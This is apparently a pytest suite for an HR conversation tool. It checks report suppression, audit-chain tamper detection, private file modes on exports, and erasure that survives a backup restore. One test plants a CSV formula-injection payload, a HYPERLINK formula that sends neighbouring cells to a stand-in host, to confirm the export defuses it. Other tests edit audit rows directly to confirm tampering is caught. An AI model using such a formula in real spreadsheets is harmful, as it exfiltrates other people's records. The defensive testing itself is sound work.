"""``magcore report``, ``export``, ``policy render``, ``audit verify`` and ``plugins``."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from tests.support.approve import approve_by_cli

from .conftest import ORG_CSV, data


@pytest.fixture
def held(ready):
    """The small organisation with e1's conversation scheduled, held and agreed."""
    plan = data(
        ready.run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json")
    )
    convs = {r["person"]: r["conversation"] for r in plan["requested"]}
    assert (
        ready.run("schedule", convs["e2"], "--on", "2025-04-01T10:00", "--as", "m1").exit_code == 0
    )
    conv = convs["e1"]
    assert (
        ready.run(
            "record",
            conv,
            "--as",
            "m1",
            "--held-on",
            "2025-03-01",
            "--summary",
            "Over loopbaan",
            "--agreement",
            "employee: Oriënteert zich op een opleiding",
        ).exit_code
        == 0
    )
    assert ready.run("agree", conv, "--as", "e1").exit_code == 0
    assert ready.run("agree", conv, "--as", "m1").exit_code == 0
    ready.conversations = convs
    return ready


def test_report_suppresses_small_groups_and_refuses_a_lower_minimum(held):
    """With the regulation's 5 every cell about one person is suppressed; --min-group 1 is
    refused with a message naming the option, and a higher one is fine."""
    strict = data(held.run("report", "--from", "2025-01-01", "--to", "2026-01-01", "--json"))
    assert strict["k"] == 5
    assert strict["periods"] == ["2025-Q1", "2025-Q2", "2025-Q3", "2025-Q4"]
    assert strict["cells"]
    assert all(cell["suppressed"] for cell in strict["cells"])
    assert all(cell["conversations"] is None for cell in strict["cells"])
    refused = held.run("report", "--min-group", "1", "--json")
    assert refused.exit_code == 2
    assert "--min-group" in refused.stderr
    assert "below the 5 the regulation sets" in refused.stderr
    higher = data(held.run("report", "--grain", "year", "--min-group", "8", "--json"))
    assert higher["k"] == 8
    assert {c["period"] for c in higher["cells"]} == {"2025"}


def test_report_refuses_a_period_off_the_grid(held):
    """Only calendar months, quarters and years: another period is refused, naming the grid."""
    result = held.run("report", "--from", "2025-02-10", "--to", "2025-05-01")
    assert result.exit_code == 1
    assert "only published per calendar quarter" in result.stderr
    assert "2025-01-01 up to 2025-07-01" in result.stderr
    months = data(
        held.run(
            "report", "--from", "2025-02-01", "--to", "2025-04-01", "--grain", "month", "--json"
        )
    )
    assert months["periods"] == ["2025-02", "2025-03"]


def test_every_report_is_audited_and_hides_the_same_cells(held):
    """Each report leaves an audit line (who, which grid, which units); the suppression is
    decided once and kept, so a second report over the same data hides the same cells."""
    first = data(held.run("report", "--as", "or-secretary", "--level", "team", "--json"))
    second = data(held.run("report", "--grain", "year", "--level", "team", "--json"))
    again = data(held.run("report", "--as", "or-secretary", "--level", "team", "--json"))
    assert first["cells"] == again["cells"]
    assert second["cells"]
    db = sqlite3.connect(held.dir / "magcore.db")
    lines = db.execute(
        "select actor, object, reason from audit where action = 'report' order by seq"
    ).fetchall()
    assert len(lines) == 3
    assert lines[0][0] == "or-secretary"
    assert lines[0][1] == "statistics:participation/quarter/2025-01-01/2026-01-01"
    assert "units: team" in lines[0][2]
    assert lines[1][1].startswith("statistics:participation/year/")
    decisions = db.execute("select count(*) from events where stream = 'statistics:2025'")
    assert decisions.fetchone()[0] == 1


def test_report_csv_has_no_numbers_for_suppressed_cells(held):
    """The CSV shows 'True' for suppressed cells and leaves their numbers empty."""
    out = held.run("report", "--from", "2025-01-01", "--to", "2026-01-01", "--csv")
    lines = out.stdout.splitlines()
    assert lines[0] == "level,unit,name,period,conversations,agreements,suppressed"
    assert all(line.endswith(",,True") for line in lines[1:])


def test_export_person_is_audited(held):
    """The subject-access export holds the person's conversation and writes audit lines."""
    before = data(held.run("audit", "verify", "--json"))["entries"]
    export = data(held.run("export", "person", "e1"))
    assert export["person"] == "e1"
    [about] = export["conversations_about_you"]
    assert about["agreements"][0]["text"] == "Oriënteert zich op een opleiding"
    after = data(held.run("audit", "verify", "--json"))
    assert after["ok"] is True
    assert after["entries"] > before


def test_export_person_html_and_refusal(held):
    """--html writes a page; someone else than the person is refused on one line."""
    result = held.run("export", "person", "e1", "--html", "--out", "e1.html")
    assert result.exit_code == 0
    assert (held.dir / "e1.html").read_text().startswith("<!DOCTYPE html>")
    refused = held.run("export", "person", "e1", "--as", "m2")
    assert refused.exit_code == 1
    assert refused.stderr.count("\n") == 1
    assert "only they or the privacy officer" in refused.stderr
    unknown = held.run("export", "person", "zz")
    assert unknown.exit_code == 1
    assert "unknown person 'zz'" in unknown.stderr


def test_export_ics(held):
    """Scheduled conversations become VEVENTs with the kind and attendees, no content."""
    icalendar = pytest.importorskip("icalendar")
    result = held.run("export", "ics", "--out", "plan.ics")
    assert result.exit_code == 0
    calendar = icalendar.Calendar.from_ical((held.dir / "plan.ics").read_bytes())
    [event] = calendar.walk("VEVENT")
    assert str(event["uid"]) == f"{held.conversations['e2']}@magcore"
    assert "Jaargesprek" in str(event["summary"])
    assert sorted(str(a) for a in event["attendee"]) == [
        "urn:magcore:person:e2",
        "urn:magcore:person:m1",
    ]
    assert event.decoded("dtstart") == datetime(2025, 4, 1, 8, 0, tzinfo=UTC)


def test_export_records_json_and_csv(held):
    """The viewer's records as JSON and as CSV."""
    records = json.loads(held.run("export", "records", "--as", "e1").stdout)
    assert [r["summary"] for r in records] == ["Over loopbaan"]
    csv_text = held.run("export", "records", "--as", "e1", "--format", "csv").stdout
    assert csv_text.splitlines()[1].endswith("employee: Oriënteert zich op een opleiding")
    manager = json.loads(held.run("export", "records", "--as", "m1").stdout)
    assert [r["summary"] for r in manager if r["subject"] == "e1"] == ["Over loopbaan"]
    other = json.loads(held.run("export", "records", "--as", "e4").stdout)
    assert [r["summary"] for r in other] == [None]
    assert all(r["subject"] != "e1" for r in other)


def test_policy_render(held):
    """The regulation names the cycle and carries a hash; --out writes the file."""
    result = data(held.run("policy", "render", "--language", "en", "--json"))
    assert len(result["hash"]) == 64
    assert "score" in result["text"].lower()
    held.run("policy", "render", "--format", "html", "--out", "regeling.html")
    assert "<html" in (held.dir / "regeling.html").read_text()
    bad = held.run("policy", "render", "--cycle", "nope")
    assert bad.exit_code == 1
    assert "unknown cycle 'nope'" in bad.stderr


def test_audit_verify_finds_tampering(held):
    """An edited audit line is found: exit 1 and the line number."""
    data(held.run("export", "person", "e1"))
    assert data(held.run("audit", "verify", "--json"))["ok"] is True
    with sqlite3.connect(held.dir / "magcore.db") as conn:
        conn.execute("UPDATE audit SET actor = 'someone-else' WHERE seq = 1")
    result = held.run("audit", "verify")
    assert result.exit_code == 1
    assert "broken at line 1" in result.stderr


def test_plugins_lists_builtin_only_with_all(run):
    """plugins --json lists the test plugin; --all adds the built-in stores."""
    listed = data(run("plugins", "--json"))
    assert [p["name"] for p in listed["plugins"]] == ["test-cycles"]
    assert listed["plugins"][0]["hooks"] == ["magcore_register_cycles"]
    everything = data(run("plugins", "--all", "--json"))
    assert {p["name"] for p in everything["plugins"] if p["builtin"]} >= {
        "magcore.defaults.storage_sqlite"
    }


def test_report_counts_department_staff_apart_by_name(held):
    """Members of a department's own team are a unit of their own, named after it."""
    # The department column names the department's own team, as many HR exports do.
    staff = (
        ORG_CSV.replace(",Afdeling,", ",dept,") + "s1,dept,Afdeling,dept,,member,2024-01-01,,,\n"
    )
    (held.dir / "staff.csv").write_text(staff)
    assert held.run("import-org", "staff.csv").exit_code == 0
    plan = data(
        held.run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json")
    )
    conv = next(r["conversation"] for r in plan["requested"] if r["person"] == "s1")
    assert held.run("record", conv, "--as", "boss", "--held-on", "2025-03-05").exit_code == 0
    report = data(held.run("report", "--grain", "year", "--json"))
    units = {c["unit"]: c for c in report["cells"]}
    assert units["dept:staff"]["level"] == "team"
    assert units["dept:staff"]["name"] == f"{units['dept']['name']} (own staff)"
    assert units["dept"]["level"] == "department"
    assert units["t1"]["name"] == "Team Noord"
    table = held.run("report", "--grain", "year")
    assert "Team Noord" in table.stdout
    assert "dept:staff" not in table.stdout


def test_audit_verify_finds_an_edited_event(held):
    """An agreed record edited in the events table is found, naming the event."""
    assert data(held.run("audit", "verify", "--json"))["events"] > 0
    with sqlite3.connect(held.dir / "magcore.db") as conn:
        conn.execute(
            "UPDATE events SET data = json_set(data, '$.tampered', 1) "
            "WHERE position = (SELECT max(position) FROM events WHERE type = 'record.drafted')"
        )
    result = held.run("audit", "verify", "--json")
    assert result.exit_code == 1
    problem = json.loads(result.stdout)["problem"]
    assert problem["event"].startswith("conversation:")
    assert "differs" in problem["reason"]


def test_audit_checkpoint_finds_a_cut_tail(held):
    """A signed checkpoint written by the command finds lines cut off later (head and all)."""
    point = held.dir / "checkpoint.json"
    assert held.run("audit", "checkpoint", "-o", str(point)).exit_code == 0
    saved = json.loads(point.read_text(encoding="utf-8"))
    assert {"count", "last_hash", "at", "signature", "public_key"} <= set(saved)
    assert data(held.run("audit", "verify", "--checkpoint", str(point), "--json"))["ok"]
    data(held.run("export", "person", "e1"))  # later lines: fine
    assert data(held.run("audit", "verify", "--checkpoint", str(point), "--json"))["ok"]
    with sqlite3.connect(held.dir / "magcore.db") as conn:
        conn.execute("DELETE FROM audit WHERE seq > ?", (saved["count"] - 1,))
        last = conn.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
        conn.execute("UPDATE audit_head SET count = ?, last_hash = ?", last)
    result = held.run("audit", "verify", "--checkpoint", str(point))
    assert result.exit_code == 1
    assert f"broken at line {saved['count']}" in result.stderr
    forged = point.with_name("forged.json")
    forged.write_text(json.dumps(saved | {"count": 1}), encoding="utf-8")
    refused = held.run("audit", "verify", "--checkpoint", str(forged))
    assert refused.exit_code == 1
    assert "signature" in refused.stderr


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("[" * 5000 + "]" * 5000, "nests deeper"),
        ('{"count": ' + "9" * 5000 + "}", "not JSON"),
        (None, "larger than 1 MiB"),
    ],
    ids=["deep", "a-5000-digit-number", "a-device-without-end"],
)
def test_a_checkpoint_that_is_no_json_is_refused_by_name(held, content, expected):
    """A checkpoint file goes through the input policy: a clear error, never a traceback."""
    point = held.dir / "point.json"
    if content is not None:
        point.write_text(content, encoding="utf-8")
    result = held.run(
        "audit", "verify", "--checkpoint", str(point) if content is not None else "/dev/zero"
    )
    assert result.exit_code == 1
    assert "cannot read checkpoint" in result.stderr
    assert expected in result.stderr


def test_report_on_a_fresh_store_answers_at_once(ready):
    """Right after init and import-org nothing was held: the report answers (it used to loop
    for ever), every cell suppressed. The 60 s are a guard against that loop, not a speed test
    (how fast reports are is for ``bench/``)."""
    answers: list[Any] = []
    worker = threading.Thread(
        target=lambda: answers.append(ready.run("report", "--grain", "month", "--json")),
        daemon=True,
    )
    worker.start()
    worker.join(60)
    assert answers, "the report did not answer within 60 s"
    (result,) = answers
    assert result.exit_code == 0
    cells = data(result)["cells"]
    assert cells
    assert all(c["suppressed"] for c in cells)


def test_report_works_for_an_organisation_without_departments(run):
    """Teams with no department and no parent team sit directly under the organisation."""
    assert run("init").exit_code == 0
    rows = ["person_id,team_id,team_name,department,parent_team_id,role,start,end,hired_on,left_on"]
    rows.append("boss,burg,Burgerzaken,,,manager,2024-01-01,,2015-03-01,")
    rows += [f"b{i},burg,Burgerzaken,,,member,2024-01-01,,2020-01-01," for i in range(6)]
    rows.append("ict1,ict,ICT,,,member,2024-01-01,,2020-01-01,")
    Path("flat.csv").write_text("\n".join(rows) + "\n")
    assert run("import-org", "flat.csv").exit_code == 0
    approve_by_cli(run)
    plan = data(run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json"))
    for row in plan["requested"]:
        who = row["person"]
        if who.startswith("b"):
            recorded = run("record", row["conversation"], "--as", "boss", "--held-on", "2025-02-03")
            assert recorded.exit_code == 0, recorded.stderr
    result = run("report", "--grain", "year", "--json")
    assert result.exit_code == 0, result.stderr
    cells = {c["unit"]: c for c in data(result)["cells"]}
    assert cells["burg"]["level"] == "team"
    assert cells["burg"]["name"] == "Burgerzaken"
    assert "department" not in {c["level"] for c in cells.values()}
    assert cells["burg"]["suppressed"] is True  # alone beside a hidden ICT, it would tell


def test_report_without_the_solver_names_the_extra(ready, monkeypatch):
    """On an install without the statistics extra the report says which extra to install,
    before it counts or writes anything."""
    import magcore.access.statistics_audit

    monkeypatch.setattr(magcore.access.statistics_audit, "solver_available", lambda: False)
    before = data(ready.run("audit", "verify", "--json"))["entries"]
    result = ready.run("report")
    assert result.exit_code == 1
    assert "pip install 'magcore[statistics]'" in result.stderr
    assert "Traceback" not in result.output
    assert data(ready.run("audit", "verify", "--json"))["entries"] == before


def test_export_person_keeps_the_other_sides_preparation_blind(held, host):
    """`magcore export person` goes through the gateway: while e2's conversation is open and e2
    has not published their own preparation, m1's published one is not in e2's export."""
    from magcore import PublishPreparation, SavePreparation, open_service

    conv = held.conversations["e2"]
    service = open_service(f"sqlite:///{held.dir / 'magcore.db'}", host=host)
    service.execute(conv, SavePreparation(actor="m1", answers={"x": "m1-prep-text"}))
    service.execute(conv, PublishPreparation(actor="m1"))
    service.close()
    blind = held.run("export", "person", "e2")
    assert blind.exit_code == 0, blind.output
    assert "m1-prep-text" not in blind.stdout
    as_manager = held.run("export", "person", "e2", "--as", "m1")
    assert as_manager.exit_code != 0
    assert "m1-prep-text" not in as_manager.output
    service = open_service(f"sqlite:///{held.dir / 'magcore.db'}", host=host)
    service.execute(conv, SavePreparation(actor="e2", answers={"x": "own"}))
    service.execute(conv, PublishPreparation(actor="e2"))
    service.close()
    assert "m1-prep-text" in held.run("export", "person", "e2").stdout


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX file modes")
@pytest.mark.parametrize("html", [False, True])
def test_export_person_file_is_for_its_owner_only(held, html):
    """A subject-access export holds a whole record in the clear (what others wrote about the
    person, private notes included): the file --out writes is ``0600`` whatever the umask, and
    a file or link already at the path is replaced, never written through."""
    old = os.umask(0o022)
    try:
        elsewhere = held.dir / "elsewhere.txt"
        elsewhere.write_text("kept\n", encoding="utf-8")
        (held.dir / "e1.out").symlink_to(elsewhere)
        args = ("export", "person", "e1", "--out", "e1.out", *(("--html",) if html else ()))
        assert held.run(*args).exit_code == 0
    finally:
        os.umask(old)
    written = held.dir / "e1.out"
    assert not written.is_symlink()
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert "Oriënteert zich op een opleiding" in written.read_text(encoding="utf-8")
    assert elsewhere.read_text(encoding="utf-8") == "kept\n"


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX file modes")
def test_export_records_file_is_for_its_owner_only(held):
    """The records export (summaries, agreements) is written ``0600`` too."""
    old = os.umask(0o022)
    try:
        assert held.run("export", "records", "--as", "e1", "--out", "records.json").exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((held.dir / "records.json").stat().st_mode) == 0o600


def test_export_records_csv_never_starts_a_cell_with_a_formula(ready):
    """A summary is typed by one participant and exported by the other: in the CSV a text that
    starts like a spreadsheet formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
    starts with a ``'`` instead, so opening the file never runs what someone else wrote (a
    ``=HYPERLINK(...)`` that sends the other rows away). The JSON keeps the text as written."""
    plan = data(
        ready.run("plan", "--from", "2025-01-01", "--to", "2026-01-01", "--request", "--json")
    )
    conv = {r["person"]: r["conversation"] for r in plan["requested"]}["e1"]
    formula = '=HYPERLINK("https://example.invalid/?"&F3,"open")'
    result = ready.run(
        "record",
        conv,
        "--as",
        "e1",
        "--held-on",
        "2025-03-01",
        "--summary",
        formula,
        "--agreement",
        "employee: @SUM(1+1)",
    )
    assert result.exit_code == 0, result.output
    text = ready.run("export", "records", "--as", "m1", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    [row] = [r for r in rows if r["id"] == conv]
    assert row["summary"] == "'" + formula
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row
    records = json.loads(ready.run("export", "records", "--as", "m1").stdout)
    assert [r["summary"] for r in records if r["id"] == conv] == [formula]


def _conversations_about(held, person):
    return data(held.run("export", "person", person))["conversations_about_you"]


def test_a_restored_backup_does_not_bring_erased_content_back(held, host):
    """A backup taken before an erasure holds the erased conversation's data key alive. The key
    file remembers the destruction: `store restore` destroys the key again (with an audit line
    per owner), and the erased text is not readable from the restored store."""
    from magcore import open_service
    from magcore.access.erasure import ErasureReason, erase_person

    db = held.dir / "magcore.db"
    text = "Oriënteert zich op een opleiding"
    [about] = _conversations_about(held, "e1")
    assert about["agreements"][0]["text"] == text
    assert data(held.run("store", "backup", "before.db", "--json"))["events"] > 0
    service = open_service(f"sqlite:///{db}", host=host)
    erased = erase_person(
        service.store, "e1", actor="privacy", reason=ErasureReason("request", reference="Z-17")
    )
    service.close()
    assert erased.keys
    keys = json.loads((held.dir / "magcore.db.keys").read_text())
    remembered = {k for group in keys["forgotten"] for k in group["keys"]}
    assert set(erased.keys) <= remembered

    restored = data(held.run("store", "restore", "before.db", "--replace", "--json"))
    assert restored["ok"] is True
    assert restored["destroyed_again"] == len(erased.keys)
    rows = sqlite3.connect(db).execute("SELECT id, wrapped FROM data_keys").fetchall()
    assert {key for key, wrapped in rows if wrapped is None} >= set(erased.keys)
    [about] = _conversations_about(held, "e1")
    assert text not in json.dumps(about, ensure_ascii=False)
    verified = data(held.run("audit", "verify", "--json"))
    assert verified["ok"] is True
    lines = [
        line
        for line in sqlite3.connect(db).execute("SELECT action, origin FROM audit")
        if line == ("destroy", "restore")
    ]
    assert lines
    # dated by the installation's clock (MAGCORE_NOW), never the wall clock: the lines and
    # the keys destroyed again alike
    now = "2025-03-10T09:00:00+00:00"
    stamps = {
        at
        for action, origin, at in sqlite3.connect(db).execute(
            "SELECT action, origin, at FROM audit"
        )
        if (action, origin) in {("destroy", "restore"), ("audit.rolled-back", "restore")}
    }
    assert stamps == {now}
    destroyed = dict(sqlite3.connect(db).execute("SELECT id, destroyed FROM data_keys"))
    assert {destroyed[key] for key in erased.keys} == {now}


def test_a_copied_backup_keeps_erased_keys_closed_until_they_are_destroyed_again(held, host):
    """A backup copied into place by other means (as pg_restore does for PostgreSQL) is not
    re-applied, but the key ring still refuses a key the key file remembers as destroyed;
    `store destroy-forgotten` then destroys it in the store."""
    import shutil

    from magcore import open_service
    from magcore.access.erasure import ErasureReason, erase_person

    db = held.dir / "magcore.db"
    assert data(held.run("store", "backup", "before.db", "--json"))["events"] > 0
    service = open_service(f"sqlite:///{db}", host=host)
    erased = erase_person(
        service.store, "e1", actor="privacy", reason=ErasureReason("request", reference="Z-17")
    )
    service.close()
    for suffix in ("-wal", "-shm"):
        (held.dir / f"magcore.db{suffix}").unlink(missing_ok=True)
    shutil.copyfile(held.dir / "before.db", db)
    # The copy sets the log back from the head the key file witnessed: nothing is read or
    # written until the rollback is accepted on the record.
    refused = held.run("export", "person", "e1")
    assert refused.exit_code != 0
    assert "does not reach the head its key provider witnessed" in refused.output
    accepted = data(
        held.run("audit", "accept-restore", "--reason", "pg_restore ticket 7", "--json")
    )
    assert accepted["accepted"] is True
    assert accepted["witnessed"] > accepted["restored"]
    [about] = _conversations_about(held, "e1")
    assert "Oriënteert" not in json.dumps(about, ensure_ascii=False)
    again = data(held.run("store", "destroy-forgotten", "--json"))
    assert again["destroyed_again"] == len(erased.keys)
    destroyed = dict(sqlite3.connect(db).execute("SELECT id, destroyed FROM data_keys"))
    assert {destroyed[key] for key in erased.keys} == {"2025-03-10T09:00:00+00:00"}  # MAGCORE_NOW
    assert data(held.run("store", "destroy-forgotten", "--json"))["destroyed_again"] == 0
    assert data(held.run("audit", "verify", "--json"))["ok"] is True
